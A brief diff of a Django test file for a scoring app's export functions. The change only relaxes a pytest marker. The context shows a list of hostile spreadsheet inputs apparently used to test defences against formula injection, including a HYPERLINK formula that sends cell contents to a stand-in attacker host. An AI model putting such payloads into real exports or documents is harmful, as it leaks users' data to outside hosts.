@@ -17,7 +17,7 @@ from scoring.exports.pdf import write_pdf
 from scoring.models import Export
 from tests.scoring.test_exports import _media, evening  # noqa: F401 (fixtures)
 
-pytestmark = [pytest.mark.django_db, pytest.mark.needs_postgres]
+pytestmark = pytest.mark.django_db
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klick")', "+49 Kreuz", "\tTab", "-2+3", "@SUM(A1)", "\rCR"]
 
